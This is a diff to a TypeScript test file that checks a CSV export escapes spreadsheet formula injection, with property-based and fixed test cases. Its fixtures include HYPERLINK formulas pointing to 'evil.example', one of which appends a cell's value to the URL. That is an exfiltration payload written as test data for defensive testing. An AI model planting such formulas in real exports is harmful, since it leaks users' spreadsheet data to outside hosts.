@@ -22,7 +22,7 @@ function readCsv(text: string): Row[] {
 
 const tricky = {
   userName: '=HYPERLINK("https://evil.example") Ash',
-  bio: 'Line one\r\nline "two", with a comma\n+not a formula in the middle',
+  bio: 'Line one\r\nline "two", with a comma\n+no formula; =not this one either',
   website: '@SUM(A1)',
   longitude: '-1.4701',
   certificationBadges: ['certified_guide', 'certified_student'] as const,
@@ -53,7 +53,7 @@ describeEachSite('the export', (current) => {
     const [row] = readCsv(answer.body)
     expect(row).toMatchObject({
       firstName: `'=HYPERLINK("https://evil.example")`,
-      bio: tricky.bio,
+      bio: tricky.bio.replace('+no', "'+no"),
       website: "'@SUM(A1)",
       longitude: '-1.4701',
       certificationBadges: 'certified_guide;certified_student',
@@ -201,29 +201,58 @@ describeSite((current) => {
     const [shown] = readCsv(await readFile(path.join(outdir, 'guides.csv'), 'utf8'))
     const [written] = readCsv(body)
     // It shows yes and no in capitals, and ends all lines in its own way.
-    expect(shown).toEqual({ ...written, bio: tricky.bio.replace('\r\n', '\n'), published: 'TRUE' })
+    const bio = written?.bio?.replace('\r\n', '\n')
+    expect(shown).toEqual({ ...written, bio, published: 'TRUE' })
     await rm(folder, { recursive: true, force: true })
   })
 })
 
+/** Texts of all characters, and of those that make formulas and part cells. */
+const anyText = fc.oneof(
+  fc.string({ unit: 'grapheme' }),
+  fc.string({ unit: 'binary' }),
+  fc.string({ unit: fc.constantFrom(...`=+-@\uff1d'";,\t\r\n1a `), maxLength: 12 }),
+)
+
 describe('cells of CSV', () => {
   test('come back as they were, whatever is in them', async () => {
     await fc.assert(
-      fc.asyncProperty(
-        fc.array(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 2, maxLength: 5 })),
-        async (rows) => {
-          const width = 5
-          const lines = rows.map((row) => [...row, ...Array(width - row.length).fill('x')] as string[])
-          const names = ['a', 'b', 'c', 'd', 'e']
-          const table = await parseCsv(toCsvHead(names) + lines.map(toCsvLine).join(''))
-          expect(table).toEqual({
-            columns: names,
-            rows: lines.map((line, index) => ({ row: index + 2, cells: line.map(escapeFormula) })),
-          })
-          expect(table.rows.map(({ cells }) => cells.map(unescapeFormula))).toEqual(lines)
-        },
-      ),
+      fc.asyncProperty(fc.array(fc.array(anyText, { minLength: 2, maxLength: 5 })), async (rows) => {
+        const width = 5
+        const lines = rows.map((row) => [...row, ...Array(width - row.length).fill('x')] as string[])
+        const names = ['a', 'b', 'c', 'd', 'e']
+        const table = await parseCsv(toCsvHead(names) + lines.map(toCsvLine).join(''))
+        expect(table).toEqual({
+          columns: names,
+          rows: lines.map((line, index) => ({ row: index + 2, cells: line.map(escapeFormula) })),
+        })
+        expect(table.rows.map(({ cells }) => cells.map(unescapeFormula))).toEqual(lines)
+      }),
     )
+  })
+
+  test('hold no formula, wherever a spreadsheet parts them', () => {
+    fc.assert(
+      fc.property(anyText, (text) => {
+        const cell = escapeFormula(text)
+        const parts = /^-?[\d.]+$/.test(cell) ? [] : cell.split(/[;\t\r\n]/)
+        expect(parts.filter((part) => /^"*[=+\-@\uff1d]/.test(part))).toEqual([])
+        expect(unescapeFormula(cell)).toBe(text)
+      }),
+      { numRuns: 2_000 },
+    )
+  })
+
+  test.each([
+    ['x;=HYPERLINK("http://evil.example/?"&A1)', `x;'=HYPERLINK("http://evil.example/?"&A1)`],
+    ['a\n=1\r\n@b\t+c', "a\n'=1\r\n'@b\t'+c"],
+    ['a;"=1', `a;'"=1`],
+    ['\t=1', "'\t'=1"],
+    ['\uff1d1', "'\uff1d1"],
+  ])('%j leaves as %j, in quotes', (text, cell) => {
+    expect(escapeFormula(text)).toBe(cell)
+    expect(unescapeFormula(cell)).toBe(text)
+    expect(toCsvLine([text, ''])).toBe(`"${cell.replaceAll('"', '""')}",""\r\n`)
   })
 
   test.each(['=1+1', '+44 1', '-1-1', '@x', '\tx', '\rx', "'=1", '--'])(
